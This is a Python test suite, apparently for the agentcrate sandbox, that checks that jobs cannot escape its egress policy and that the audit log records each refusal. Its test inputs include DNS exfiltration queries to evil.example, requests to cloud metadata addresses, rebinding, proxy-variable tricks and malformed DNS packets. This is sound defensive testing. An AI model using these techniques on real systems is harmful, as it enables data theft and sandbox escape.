#!/usr/bin/python3 -B
# SPDX-License-Identifier: Apache-2.0
# test-as: root user
"""The attacks on what jobs reach, each by the number of its row: what the job sees, what is seen
outside (by a resolver and servers of the test's own), and what the audit says, line by line and to
the end: a line that is not expected fails a row, too. The rows of credentials are those of
operations.py; what has none of the three is tested in egress-process.py, without a crate."""

import base64
import contextlib
import json
import os
import re
import signal
import socket
import ssl
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
# pylint: disable=wrong-import-position
import mcp
import tap
from told import HELLO, Rows, Source, Upstream, cpu, denied, reached, row
from web import crate, egress_of, environment, resolver, tenant

WORD = "words-that-only-the-server-reads"
OPENED = ["127.0.0.0/8"]


# --- names ---


def row_1(rows):
    """A name that is not allowed does not exist, and nobody outside hears of it."""
    told = rows.run("web", 'tell(libc=find("evil.example"))')
    tap.equal((told.seen["libc"], rows.asked()), (socket.EAI_NONAME, []))
    told.says(denied("dns", "evil.example", 2))


def row_2(rows):
    """Whatever is asked of it; and of a name that is allowed there is nothing but addresses."""
    told = rows.run("web", """
kinds = {"A": 1, "NULL": 10, "MX": 15, "TXT": 16, "AAAA": 28, "SRV": 33, "SVCB": 64, "HTTPS": 65, "ANY": 255}
tell(evil={k: answer("secret-data.evil.example", n) for k, n in kinds.items()},
     good={k: answer("web.example", n) for k, n in kinds.items()})
""")
    good = {kind: told.seen["good"].pop(kind) for kind in ("A", "AAAA")}
    tap.equal(set(map(tuple, told.seen["evil"].values())), {(3, 0)}, "NXDOMAIN for each type")
    tap.equal(good, {"A": [0, 1], "AAAA": [0, 1]})
    tap.equal(set(map(tuple, told.seen["good"].values())), {(0, 0)}, "no data of other types")
    tap.equal(rows.asked(), [])
    told.says(denied("dns", "secret-data.evil.example", 9))


def row_3(rows, upstream):
    """Names below a wildcard go out only when they are connected to, and there are few of them."""
    labels = [base64.b32encode(b"secret%02d" % i).decode().lower().rstrip("=") for i in range(20)]
    names = [f"{label}.wild.example" for label in labels]
    rows.dns.answers[names[7]] = [("A", "127.0.0.1")]
    told = rows.run("wildcard", f"""
names = {names!r}
found = [answer(n, 1) for n in names]
again = answer(names[3], 1)
use = send(names[7], {upstream.port}, b"12345")
gone = send(names[8], {upstream.port})
tell(found=found, again=again, use=use, gone=gone, above=find("wild.example"))
""")
    tap.equal(told.seen["found"], 16 * [[0, 1]] + 4 * [[5, 0]], "sixteen of them, and refusals")
    tap.equal((told.seen["again"], told.seen["use"]), ([0, 1], HELLO.decode()))
    tap.check(told.seen["gone"] in ("", "ECONNRESET"), str(told.seen))
    tap.equal(told.seen["above"], socket.EAI_NONAME, "the name above them")
    tap.equal(rows.asked(), sorted([names[7], names[8]]), "only what was connected to")
    told.says(*[denied("limit", name, 1, "names") for name in names[16:]],
              denied("dns", "wild.example", 2), denied("unreachable", names[8], 1, "not-resolved", port=upstream.port),
              reached(names[7], upstream.port, 5))


def row_4(rows, upstream):
    """Names are told apart as DNS does it: case and one dot at the end do not matter. What no host is
    called is refused, and told so that it cannot be taken for another name."""
    told = rows.run("web", f"""
label = bytes([63]) + b"a" * 63
wire = dict(nul=b"\\x0aevil.com\\0a\\3web\\7example\\0", dot=b"\\x0bweb.example\\0", space=b"\\4we b\\7example\\0",
            percent=b"\\6web%00\\7example\\0", high=b"\\4w\\xc3\\xa9b\\7example\\0", under=b"\\3_w_\\7example\\0",
            puny=b"\\x0dxn--bcher-kva\\7example\\0", root=b"\\0", long=b"\\x40" + b"a" * 64 + b"\\0",
            most=label * 3 + bytes([61]) + b"b" * 61 + b"\\0", more=label * 3 + bytes([62]) + b"b" * 62 + b"\\0")
tell(codes={{k: ask(query(n, 1))[3] & 15 for k, n in wire.items()}},
     upper=send("WEB.Example", {upstream.port}, b"1"), dot=send("web.example.", {upstream.port}, b"22"))
""")
    codes = told.seen["codes"]
    tap.equal((codes.pop("long"), codes.pop("more")), (1, 1), "what no name can be")
    tap.equal(set(codes.values()), {3}, "names that are not allowed")
    tap.equal((told.seen["upper"], told.seen["dot"]), (HELLO.decode(), HELLO.decode()))
    tap.equal(rows.asked(), ["web.example"])
    labels = "a" * 63
    told.says(reached("web.example", upstream.port, 1), reached("web.example", upstream.port, 2),
              denied("dns", "evil\\046com\\000a.web.example"), denied("dns", "web\\046example"),
              denied("dns", "we\\032b.example"), denied("dns", "web\\03700.example"),
              denied("dns", "w\\195\\169b.example"), denied("dns", "_w_.example"),
              denied("dns", "xn--bcher-kva.example"), denied("dns", "."),
              denied("dns", f"{labels}.{labels}.{labels}.{'b' * 61}"[:200]),
              denied("dns", None, 2, "malformed"))


BAD_NAMES = ["*", "*.", "*.com", "ex*mple.com", "api.*.com", "example.*", "*.*.example.org", "a..b",
             ".example.org", "-", "a b.example", "a%00.example", "evil.com\\0.example.org", "127.0.0.1",
             "::1", "x" * 64 + ".example"]
LOOKALIKES = ["\u0435xample.org", "exa\u200bmple.org", "b\u00fccher.example", "\u202egro.elpmaxe",
              "ex\uff41mple.org"]


def refused_names(rows, bad):
    """Refused when they are read, wherever they stand; a call that brings one is denied, and on
    record as that."""
    rows.dns.asked.clear()
    for name in bad:
        given = [{"name": name, "port": 80}]
        ran = crate(environment(rows.dns), "true", allow=[name + ":80"])
        tap.equal(ran.rc, 125, f"--allow {name!a}")
        env = environment(rows.dns, {"net": {"ro": ["/usr"], "egress": given}},
                          {"us": tenant(egress=given)})
        ran = crate(env, "true", options=["--template", "net"])
        tap.equal(ran.rc, 125, f"template {name!a}")
        tap.contains(ran.err.decode(), "net.json:1:", f"template {name!a}")
        ran = tap.run([tap.program("agentcrate"), "policy", "check"], env=env)
        tap.check(ran.rc != 0 and b"us.json:1:" in ran.out + ran.err, lambda ran=ran: str(ran))
        called = rows.client.call("sandbox_exec", {"command": "true", "egress": given})
        tap.check(called["isError"] and "structuredContent" not in called, f"{name!a}: {called}")
        decision, end = mcp.audit_records(rows.broker.log_path)[-2:]
        tap.equal((decision["event"], decision["decision"], end["event"], end["outcome"]),
                  ("decision", "denied", "end", "denied"), f"{name!a}")
        tap.contains(decision["reason"], "egress", f"{name!a}")
    tap.equal(rows.asked(), [], "asked outside")


# --- addresses ---


def row_8(rows):
    """Addresses that are nobody's name: unreachable at once, and counted."""
    hosts = ["1.1.1.1", "10.0.0.1", "192.168.0.1", "169.254.169.254", "100.64.0.1", "198.20.0.1",
             "2001:db8::1", "fd00:ec2::254", "fd00:ad::1"]
    told = rows.run("web", f"""
began = time.monotonic()
tell(tcp=[attempt(h, 443) for h in {hosts}], udp=[attempt(h, 53, socket.SOCK_DGRAM) for h in {hosts}],
     seconds=time.monotonic() - began)
""")
    tap.equal(set(told.seen["tcp"] + told.seen["udp"]), {"ENETUNREACH"})
    tap.check(told.seen["seconds"] < 5, f"it took {told.seen['seconds']} s")
    tap.equal(rows.asked(), [])
    told.says(denied("unrouted", count=2 * len(hosts)))


def row_9(rows, upstream):
    """A synthetic address that is nobody's: refused, and counted."""
    n = upstream.n_connections
    told = rows.run("web", f"""
tell(nobody=[attempt(h, {upstream.port}) for h in ("198.18.0.77", "198.19.255.254", "fd00:ac::77")])
""")
    tap.equal(told.seen["nobody"], 3 * ["ECONNREFUSED"])
    tap.equal((rows.asked(), upstream.n_connections), ([], n))
    told.says(denied("refused", count=3))


CLASSES = {
    "127.0.0.1": "loopback", "0.0.0.0": "unspecified", "10.1.2.3": "private", "172.16.0.1": "private",
    "192.168.0.1": "private", "169.254.1.1": "link-local", "100.64.0.1": "shared", "224.0.0.1": "multicast",
    "255.255.255.255": "broadcast", "240.0.0.1": "reserved", "192.0.0.1": "protocol",
    "198.18.0.1": "benchmark", "192.0.2.1": "documentation", "198.51.100.1": "documentation",
    "203.0.113.1": "documentation", "::1": "loopback", "fd00::1": "private", "fe80::1": "link-local",
    "ff02::1": "multicast", "::ffff:127.0.0.1": "loopback", "64:ff9b::a00:1": "private",
    "2002:7f00:1::": "loopback",
}
METADATA = ["169.254.169.254", "fd00:ec2::254", "100.100.100.200", "168.63.129.16", "192.0.0.192",
            "fd20:ce::254", "::ffff:169.254.169.254"]


def named(addresses, prefix):
    """Names, each of which leads to one of these addresses."""
    return {f"{prefix}{i}.example": [("AAAA" if ":" in address else "A", address)]
            for i, address in enumerate(addresses)}


def leads_nowhere(rows, upstream, template, addresses, prefix):
    """A job cannot get to names that lead there; one line tells of each, with the address."""
    n = upstream.n_connections
    names = named(addresses, prefix)
    told = rows.run(template, f"""
tell(got=[send(n, {upstream.port}) for n in {list(names)}])
""")
    tap.equal(set(told.seen["got"]) - {"", "ECONNRESET"}, set())
    tap.equal((rows.asked(), upstream.n_connections), (sorted(names), n))
    told.says(*[denied("address", name, 1, reason, address=address, port=upstream.port)
                for name, (address, reason) in zip(names, addresses.items())])


def row_10(rows, upstream):
    leads_nowhere(rows, upstream, "classes", CLASSES, "class")


def row_11(rows, upstream):
    """Not even where the destination opens every address."""
    leads_nowhere(rows, upstream, "metadata", dict.fromkeys(METADATA, "metadata"), "meta")


OWN, LATE = "11.22.33.44", "11.22.33.55"


def row_13():
    """Addresses of the machine itself, in a net namespace in which it has some that nothing else
    forbids."""
    if os.geteuid() != 0:
        raise tap.Skip("needs root")
    ran = tap.run(["unshare", "-n", sys.executable, "-B", os.path.abspath(__file__), "--own-addresses"])
    tap.check(ran.rc == 0, lambda: ran.err.decode())


def own_addresses_within():
    tap.run(["ip", "link", "set", "lo", "up"]).expect(0)
    # Not every kernel has interfaces that lead nowhere.
    made = tap.run(["ip", "link", "add", "own", "up", "type", "dummy"]).rc == 0
    device = "own" if made else "lo"
    tap.run(["ip", "addr", "add", f"{OWN}/24", "dev", device]).expect(0)
    with resolver() as dns, Upstream(OWN) as upstream:
        dns.answers.update({name + ".example": [("A", address)]
                            for name, address in (("own", OWN), ("late", LATE), ("opened", OWN))})
        port = upstream.port
        templates = {"own": [row("own.example", port), row("late.example", port),
                             row("opened.example", port, addresses=[OWN + "/32"])]}
        with Rows(dns, templates) as rows:
            code = f'tell(got=[send(n + ".example", {port}, b"123") for n in ("own", "late", "opened")])'
            tap.run(["ip", "addr", "add", f"{LATE}/24", "dev", device]).expect(0)
            told = rows.run("own", code)
            tap.equal(told.seen["got"][2], HELLO.decode())
            tap.equal(set(told.seen["got"][:2]) - {"", "ECONNRESET"}, set())
            tap.equal((upstream.n_connections, upstream.heard), (1, [b"123"]))
            told.says(denied("address", "own.example", 1, "host", address=OWN, port=port),
                      denied("address", "late.example", 1, "host", address=LATE, port=port),
                      reached("opened.example", port, 3, address=OWN))


def row_14(rows, upstream):
    """A name that leads elsewhere each time it is asked for, and says that no answer holds: it is
    asked for once for a connection, and what was judged is what is dialled."""
    answers = iter(["127.0.0.1", "10.0.0.5", "127.0.0.2"])

    def rebind():
        # Each connection asks for A and for AAAA.
        turn.append(1)
        if len(turn) % 2:
            now.append(next(answers))
        return [("A", now[-1])]

    turn, now, n = [], [], upstream.n_connections
    rows.dns.answers["rebind.example"] = rebind
    told = rows.run("rebind", f"""
tell(got=[send("rebind.example", {upstream.port}, b"x" * n) for n in (1, 2)])
""")
    tap.equal(told.seen["got"][0], HELLO.decode())
    tap.check(told.seen["got"][1] in ("", "ECONNRESET"), str(told.seen))
    tap.equal(sorted(rows.dns.asked), sorted(2 * [("rebind.example", 1), ("rebind.example", 28)]),
              "questions for two connections")
    tap.equal((upstream.n_connections - n, upstream.heard[-1]), (1, b"x"))
    told.says(reached("rebind.example", upstream.port, 1),
              denied("address", "rebind.example", 1, "private", address="10.0.0.5", port=upstream.port))


def row_16(rows, upstream):
    """What other names lead there is told, and does not matter."""
    told = rows.run("chain", f"""
tell(good=send("alias.example", {upstream.port}, b"12"), bad=send("inner.example", {upstream.port}))
""")
    tap.equal(told.seen["good"], HELLO.decode())
    tap.check(told.seen["bad"] in ("", "ECONNRESET"), str(told.seen))
    tap.equal(upstream.heard[-1], b"12")
    told.says(reached("alias.example", upstream.port, 2, through="web.example"),
              denied("address", "inner.example", 1, "private", address="10.0.0.7", port=upstream.port),
              reached("inner.example", upstream.port, 0, 0, "denied", decision="denied", address=None,
                      through="db.corp.example"))


def row_17(rows, upstream):
    """A port of an allowed name that is not allowed; a job's own servers have any, at loopback."""
    n = upstream.n_connections
    told = rows.run("web", f"""
own = socket.create_server(("127.0.0.1", {upstream.port}))
tell(other=[attempt(a, 443) for a in find("web.example")], own=attempt("127.0.0.1", {upstream.port}))
""")
    tap.equal(told.seen, {"other": 2 * ["ECONNREFUSED"], "own": "connected"})
    tap.equal((rows.asked(), upstream.n_connections), ([], n))
    told.says(denied("refused", count=2))


def row_19(rows):
    """What is no question is answered with an error or not at all, and counted."""
    before = cpu(egress_of(rows.broker.pid))
    told = rows.run("web", """
head = struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0)
good = query("web.example", 1)
wrong = dict(loop=head + b"\\xc0\\x0c\\0\\1\\0\\1", pointer=head + b"\\3web\\xc0\\x0c\\0\\1\\0\\1",
             many=struct.pack("!HHHHHH", 7, 0x100, 65535, 0, 0, 0) + good[12:],
             none=struct.pack("!HHHHHH", 7, 0x100, 0, 0, 0, 0), label=head + b"\\x40" + b"a" * 64 + b"\\0\\0\\1\\0\\1",
             cut=good[:-1], records=struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 65535) + good[12:])
silent = dict(empty=b"", byte=b"\\0", header=good[:11], answer=b"\\0\\7\\x81\\x80" + good[4:], long=good + bytes(5000))
codes = {k: [ask(w)[3] & 15, ask(w, tcp=True)[5] & 15] for k, w in wrong.items()}
quiet = [ask(w, timeout=0.1) for w in silent.values()]
def lie(data):
    with socket.create_connection(("198.18.0.1", 53)) as s:
        s.sendall(data)
        s.shutdown(socket.SHUT_WR)
        return s.recv(100).decode("latin-1")
lies = [lie(b"\\0\\0"), lie(b"\\xff\\xff" + good), lie(b"\\0\\x40" + good), lie(b"\\0\\5abcde"), lie(b"")]
for _ in range(300):
    for w in wrong.values():
        ask(w)
other = ask(good[:-2] + b"\\0\\3")[3] & 15, ask(b"\\0\\7\\x20\\0" + good[4:])[3] & 15
tell(codes=codes, quiet=quiet, lies=lies, other=other, after=answer("web.example", 1))
""")
    used = cpu(egress_of(rows.broker.pid)) - before
    tap.equal(set(map(tuple, told.seen["codes"].values())), {(1, 1)}, str(told.seen))
    tap.equal((told.seen["quiet"], told.seen["lies"]), (5 * [None], 5 * [""]), "no answers")
    tap.equal((told.seen["other"], told.seen["after"]), ([5, 4], [0, 1]))
    tap.equal(rows.asked(), [])
    told.says(denied("dns", None, 7 * 302 + 5 + 4 + 1, "malformed"), denied("dns", "web.example", 1, "class"))
    tap.check(used < 1, f"{used} s of the processor")


# --- what is said of whom it is for ---


def client_hello(name):
    """The first message of TLS for that name, or for none."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    outgoing = ssl.MemoryBIO()
    tls = context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname=name)
    with contextlib.suppress(ssl.SSLWantReadError):
        tls.do_handshake()
    return outgoing.read()


def row_20(rows, upstream):
    """TLS for another name, or for none: an alert, and nothing goes out."""
    n = upstream.n_connections
    told = rows.run("tls", f"""
tell(got=[send("web.example", {upstream.port}, d) for d in ({client_hello("other.example")!r},
          {client_hello("other.example")!r}, {client_hello(None)!r})])
""")
    tap.equal(told.seen["got"], 3 * ["\x15\x03\x01\x00\x02\x02\x70"], "alerts")
    tap.equal((rows.asked(), upstream.n_connections), ([], n))
    told.says(denied("sni", "web.example", 2, "mismatch", seen="other.example", port=upstream.port),
              denied("sni", "web.example", 1, "missing", port=upstream.port))


def row_22(rows, upstream):
    """What is no TLS at all."""
    n = upstream.n_connections
    told = rows.run("tls", f"""
tell(got=[send("web.example", {upstream.port}, d) for d in (get(b"web.example"), b"SSH-2.0-x\\r\\n")])
""")
    tap.equal(told.seen["got"], ["", ""])
    tap.equal((rows.asked(), upstream.n_connections), ([], n))
    told.says(denied("sni", "web.example", 2, "not-tls", port=upstream.port))


def row_23(rows, upstream):
    """What is inside of TLS is not seen, which is documented; no line has a word of it."""
    hello = client_hello("web.example")
    told = rows.run("tls", f"""
tell(got=send("web.example", {upstream.port}, {hello!r} + b"Host: {WORD}"))
""")
    tap.equal((told.seen["got"], upstream.heard[-1]), (HELLO.decode(), hello + b"Host: " + WORD.encode()))
    told.says(reached("web.example", upstream.port, len(upstream.heard[-1])))
    tap.lacks(json.dumps([line for line in told.records if line["event"] == "egress"]), WORD, "lines")


NO_PATH = "the target of the request is no path: it begins with a slash and holds visible ASCII characters only"
NO_PROTOCOL = "no other protocol is spoken on a plain HTTP destination: allow it as NAME:PORT/tcp instead"
NO_PROXY = "there is no such method here: this is no proxy"


def row_25(rows, upstream):
    """HTTP/2 without TLS is refused, and an offer of it taken out of what goes on."""
    n = upstream.n_connections
    told = rows.run("http", f"""
offer = b"Connection: Upgrade, HTTP2-Settings\\r\\nUpgrade: h2c\\r\\nHTTP2-Settings: AAMAAABk\\r\\n"
tell(got=[send("web.example", {upstream.port}, d) for d in (b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n",
          get(b"web.example", b"Upgrade: h3\\r\\n"), get(b"web.example", offer))])
""")
    tap.equal([got.split("\r\n")[0][:13] for got in told.seen["got"]],
              ["HTTP/1.1 400 ", "HTTP/1.1 501 ", HELLO.decode()])
    tap.equal((upstream.n_connections - n, upstream.heard[-1]), (1, b"GET / HTTP/1.1\r\nHost: web.example\r\n\r\n"))
    told.says(denied("host", "web.example", 1, NO_PATH, port=upstream.port),
              denied("host", "web.example", 1, NO_PROTOCOL, port=upstream.port),
              reached("web.example", upstream.port, len(upstream.heard[-1])))


# --- limits ---


BYTES_MAX = 1 << 20


def row_26_connections(rows, upstream):
    """More connections than a job may have at a time: refused at once; those that it has go on."""
    n = upstream.n_connections
    told = rows.run("limits", f"""
held = [socket.create_connection(("web.example", {upstream.port}), 10) for _ in range(2)]
greeted = [s.recv(100).decode() for s in held]
more = [send("web.example", {upstream.port}) for _ in range(500)]
for s in held:
    s.sendall(b"12345")
tell(greeted=greeted, more=sorted(set(more)))
""")
    tap.equal(told.seen["greeted"], 2 * [HELLO.decode()])
    tap.equal(set(told.seen["more"]) - {"", "ECONNRESET"}, set())
    tap.equal(upstream.n_connections - n, 2)
    told.says(denied("limit", "web.example", 500, "connections", port=upstream.port),
              *2 * [reached("web.example", upstream.port, 5)])


def row_26_idle(rows, upstream):
    """A connection on which nothing comes is closed to both sides."""
    told = rows.run("limits", f"""
with socket.create_connection(("web.example", {upstream.port}), 10) as s:
    s.sendall(b"12")
    data = s.recv(100).decode()
    try:
        tell(data=data, then=len(s.recv(1)))
    except OSError as error:
        tell(data=data, then=name(error))
""")
    tap.equal(told.seen["data"], HELLO.decode())
    tap.check(told.seen["then"] in (0, "ECONNRESET"), str(told.seen))
    tap.check(tap.wait_until(lambda: upstream.heard[-1] == "reset"), "outside it is still open")
    told.says(denied("limit", "web.example", 1, "idle", port=upstream.port),
              reached("web.example", upstream.port, 2, end="idle"))


def row_26_bytes(rows, source):
    """More bytes than a job may have: the connection ends, and there is no other."""
    told = rows.run("bytes", f"""
n = 0
with socket.create_connection(("source.example", {source.port}), 10) as s:
    try:
        while data := s.recv(65536):
            n += len(data)
    except OSError:
        pass
tell(n=n, next=send("source.example", {source.port}))
""")
    tap.check(told.seen["next"] in ("", "ECONNRESET"), str(told.seen))
    source.last()
    tap.equal(source.n_connections, 1)
    got = told.line(decision="allowed")["bytes"]["in"]
    tap.check(told.seen["n"] <= got and BYTES_MAX < got < BYTES_MAX + (4 << 20), f"{got} bytes, {told.seen}")
    told.says(denied("limit", "source.example", 2, "bytes", port=source.port),
              reached("source.example", source.port, 0, got, "bytes"))


def row_26_slow_reader(rows, source):
    """Who reads nothing is idle, whatever there is for it; only a bounded part of that is taken off
    its server."""
    n = source.n_connections
    told = rows.run("slow", f"""
with socket.socket() as s:
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    s.connect(("source.example", {source.port}))
    time.sleep(2.2)
    n = 0
    try:
        while data := s.recv(65536):
            n += len(data)
        tell(n=n, end="")
    except OSError as error:
        tell(n=n, end=name(error))
""")
    tap.equal(told.seen["end"], "ECONNRESET")
    _, sent = source.last()
    got = told.line(decision="allowed")["bytes"]["in"]
    tap.check(told.seen["n"] <= got <= sent < 64 << 20, f"{told.seen}, {got} told, {sent} sent")
    tap.equal(source.n_connections - n, 1)
    told.says(denied("limit", "source.example", 1, "idle", port=source.port),
              reached("source.example", source.port, 0, got, "idle"))


def row_27(rows, source):
    """A job that dies in the midst of a transfer, by itself or by a limit: its server hears of it
    within a second, and what it had is counted."""
    code = f"""
s = socket.create_connection(("source.example", {source.port}), 10)
s.sendall(b"12345")
n = 0
while n < 1 << 20:
    n += len(s.recv(1 << 16))
tell(n=n, at=time.monotonic())
"""
    told = rows.run("source", code + f"os.kill(os.getpid(), {int(signal.SIGKILL)})\n")
    tap.equal((told.result["outcome"], told.result["signal"]), ("signaled", "SIGKILL"), str(told.result))
    killed_in_transfer(told, source, told.seen["at"])
    told = rows.run("source", code + "time.sleep(60)\n", timeout_ms=1000)
    tap.equal((told.result["outcome"], told.result["limit"]["name"]), ("limit", "wall_time"), str(told.result))
    killed_in_transfer(told, source, told.seen["at"] + 1)


def killed_in_transfer(told, source, at):
    ended, sent = source.last()
    tap.check(ended - at < 1, f"closed after {ended - at} s")
    line = told.line(decision="allowed")
    got = line["bytes"]["in"]
    tap.check(told.seen["n"] <= got <= sent, f"{told.seen}, {got} told, {sent} sent")
    tap.check(line["end"] in ("reset", "closed"), str(line))
    told.says(reached("source.example", source.port, 5, got, line["end"]))


# --- ways around ---


def row_60(rows, upstream):
    """Variables of proxies change nothing, an allowed server is no proxy, and other ways to ask for
    names lead nowhere."""
    n = upstream.n_connections
    proxy = f"http://web.example:{upstream.port}"
    hostile = {"HTTP_PROXY": proxy, "HTTPS_PROXY": proxy, "http_proxy": proxy, "https_proxy": proxy,
               "ALL_PROXY": "socks5://10.0.0.1:1", "NO_PROXY": ""}
    told = rows.run("http", f"""
import subprocess, urllib.request
def fetch(url):
    try:
        return urllib.request.urlopen(url, timeout=10).status
    except OSError as error:
        return getattr(error, "code", str(error))
def raw(family, kind, protocol):
    try:
        socket.socket(family, kind, protocol)
    except OSError as error:
        return name(error)
direct = send("web.example", {upstream.port}, get(b"web.example"))
via = [fetch("http://evil.example/"), fetch("https://evil.example/")]
tell(direct=direct, via=via, raw=[raw(socket.AF_INET, socket.SOCK_RAW, 17), raw(socket.AF_PACKET, socket.SOCK_RAW, 0)],
     doh=find("dns.google"),
     dot=[attempt("198.18.0.1", 853), attempt("1.1.1.1", 853)],
     dns=[attempt("8.8.8.8", 53), attempt("8.8.8.8", 53, socket.SOCK_DGRAM), attempt("2001:4860:4860::8888", 53)])
""", env=hostile)
    tap.equal(told.seen["direct"], HELLO.decode(), "what an allowed name answers")
    tap.equal(told.seen["via"][0], 400)
    tap.contains(told.seen["via"][1], "405 Refused")
    tap.check(None not in told.seen["raw"], str(told.seen["raw"]))
    tap.equal((told.seen["doh"], told.seen["dot"]), (socket.EAI_NONAME, ["ECONNREFUSED", "ENETUNREACH"]))
    tap.equal(told.seen["dns"], 3 * ["ENETUNREACH"])
    tap.equal((rows.asked(), upstream.n_connections - n), (["web.example"], 1))
    told.says(reached("web.example", upstream.port, len(upstream.heard[-1])),
              denied("host", "web.example", 1, NO_PATH, port=upstream.port),
              denied("host", "web.example", 1, NO_PROXY, port=upstream.port),
              denied("dns", "dns.google", 2), denied("refused", count=1), denied("unrouted", count=4))


def row_62(rows, upstream):
    """A flood of what is denied: bounded lines, the rest counted, and little of a processor and of a
    disk for all of it."""
    size = os.path.getsize(rows.broker.log_path)
    pids = rows.broker.pid, egress_of(rows.broker.pid)
    before = [cpu(pid) for pid in pids]
    told = rows.run("web", f"""
n = refused = unrouted = 0
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.connect(("198.18.0.1", 53))
    end = time.monotonic() + 1.5
    while time.monotonic() < end:
        for _ in range(200):
            s.send(query(f"n{{n}}.evil.example", 1))
            n += 1
        refused += attempt("198.18.0.99", 80) == "ECONNREFUSED"
        unrouted += attempt("10.0.0.1", 80) == "ENETUNREACH"
time.sleep(0.5)
tell(n=n, refused=refused, unrouted=unrouted, last=answer("evil.example", 1),
     still=send("web.example", {upstream.port}, b"1"))
""")
    used = [cpu(pid) - had for pid, had in zip(pids, before)]
    grown = os.path.getsize(rows.broker.log_path) - size
    tap.diag(f"{told.seen['n']} questions: {used[0]:.2f} s of the broker, {used[1]:.2f} s of agentcrate-egress, "
             f"{grown >> 10} KiB")
    tap.equal((told.seen["last"], told.seen["still"], rows.asked()), ([3, 0], HELLO.decode(), ["web.example"]))
    tap.check(len(told.lines) <= 105, f"{len(told.lines)} lines")
    counted = sum(line["count"] for line in told.lines if line.get("kind") in ("dns", "more"))
    tap.equal(counted, told.seen["n"] + 1, "what was asked, by names and by the rest")
    told.sums(connections=1, into=len(HELLO), out=1)
    for kind in "refused", "unrouted":
        tap.equal(told.line(kind=kind)["count"], told.seen[kind], kind)
    tap.check(told.line(kind="more")["count"] > 1000, str(told.line(kind="more")))
    told.line(decision="allowed", name="web.example")
    tap.check(used[0] < 0.5 and used[1] < 1, f"{used} s of the processor")
    tap.check(grown < 64 << 10, f"{grown} bytes")
    tap.check(len(rows.broker.errors()) < 4096, rows.broker.errors()[:4096])


def row_62_connections(rows, upstream):
    """Many connections: a line for each of the first hundred, and one for the others to a destination.
    What is refused takes no line from what is reached, nor from what is refused for another reason."""
    told = rows.run("flood", f"""
for i in range(90):
    answer(f"n{{i}}.evil.example", 1)
refused = {{send("tls.example", {upstream.port}, b"x") for _ in range(150)}}
reached = {{send("web.example", {upstream.port}, b"12") for _ in range(130)}}
tell(refused=list(refused), reached=list(reached))
""")
    tap.equal(told.seen, {"refused": [""], "reached": [HELLO.decode()]})
    rest = {"event": "egress", "name": "web.example", "port": upstream.port, "decision": "allowed",
            "address": None, "end": "more", "count": 30, "bytes": {"in": 30 * len(HELLO), "out": 60}}
    told.says(denied("sni", "tls.example", 150, "not-tls", port=upstream.port), denied("more", count=10),
              *[denied("dns", f"n{i}.evil.example") for i in range(80)],
              *100 * [reached("web.example", upstream.port, 2)], rest)


# --- for people ---


def shown(rows, upstream):
    """What agentcrate audit tail prints of it: which destination, and what came of it."""
    called = [rows.run("web", f"""
answer("evil.example", 1)
answer("evil.example", 28)
answer("we b.example", 1)
attempt("198.18.0.77", 1)
tell(got=send("web.example", {upstream.port}, b"12345"))
"""), rows.run("classes", f'tell(got=send("class0.example", {upstream.port}))')]
    ran = tap.run([tap.program("agentcrate"), "audit", "tail", "-n", "20", rows.broker.log_path]).expect(0)
    calls = {told.end["call"] for told in called}
    lines = [line.split(" ", 6) for line in ran.text.splitlines()]
    got = sorted(re.sub(r" \d+ms$", " MS", line[6]) for line in lines
                 if line[2] in ("dns", "egress") and line[3] in calls)
    tap.equal(got, sorted([
        f"allowed - web.example:{upstream.port} 127.0.0.1 done in={len(HELLO)} out=5 MS",
        "denied default evil.example - dns x2", r"denied default we\\032b.example - dns",
        "denied - - - refused", f"denied default class0.example:{upstream.port} 127.0.0.1 address: loopback"]))


# --- all ---


def templates_of(upstream, source):
    port = upstream.port
    return {
        "web": [row("web.example", port, addresses=OPENED)],
        "wildcard": [row("*.wild.example", port, addresses=OPENED)],
        "classes": [row(name, port) for name in named(CLASSES, "class")],
        "metadata": [row(name, port, addresses=["0.0.0.0/0", "::/0"]) for name in named(METADATA, "meta")],
        "rebind": [row("rebind.example", port, addresses=OPENED)],
        "chain": [row("alias.example", port, addresses=OPENED), row("inner.example", port)],
        "tls": [row("web.example", port, "tls", OPENED)],
        "http": [row("web.example", port, "http", OPENED)],
        "flood": [row("web.example", port, addresses=OPENED), row("tls.example", port, "tls")],
        "source": [row("source.example", source.port, addresses=OPENED)],
    }


def cases(dns, upstream, source):
    dns.answers.update(named(CLASSES, "class") | named(METADATA, "meta"))
    dns.answers["source.example"] = [("A", "127.0.0.1")]
    dns.answers["inner.example"] = [("CNAME", "db.corp.example"), ("A", "10.0.0.7")]
    with Rows(dns, templates_of(upstream, source)) as rows:
        tap.case("row 1: a name that is not allowed", row_1, rows)
        tap.case("row 2: other types", row_2, rows)
        tap.case("row 3: data in names below a wildcard", row_3, rows, upstream)
        tap.case("row 4: odd names", row_4, rows, upstream)
        tap.case("row 6: names that are refused when they are read", refused_names, rows, BAD_NAMES)
        tap.case("row 8: addresses that are nobody's name", row_8, rows)
        tap.case("row 9: synthetic addresses of nobody", row_9, rows, upstream)
        tap.case("row 10: names that lead to addresses of each class", row_10, rows, upstream)
        tap.case("row 11: names that lead to metadata services", row_11, rows, upstream)
        tap.case("row 13: names that lead to this machine", row_13)
        tap.case("row 14: rebinding", row_14, rows, upstream)
        tap.case("row 16: aliases", row_16, rows, upstream)
        tap.case("row 17: ports that are not allowed", row_17, rows, upstream)
        tap.case("row 19: what is no DNS", row_19, rows)
        tap.case("row 20: TLS for another name", row_20, rows, upstream)
        tap.case("row 22: no TLS", row_22, rows, upstream)
        tap.case("row 23: another Host inside of TLS", row_23, rows, upstream)
        tap.case("row 25: HTTP/2 without TLS", row_25, rows, upstream)
        tap.case("row 27: a job dies in a transfer", row_27, rows, source)
        tap.case("row 60: proxies, and other ways to names", row_60, rows, upstream)
        tap.case("row 61: letters that look like others", refused_names, rows, LOOKALIKES)
        tap.case("what audit tail shows of it", shown, rows, upstream)
        tap.case("row 62: a flood of questions", row_62, rows, upstream)
        tap.case("row 62: a flood of connections", row_62_connections, rows, upstream)
    with Upstream() as other, Source() as more:
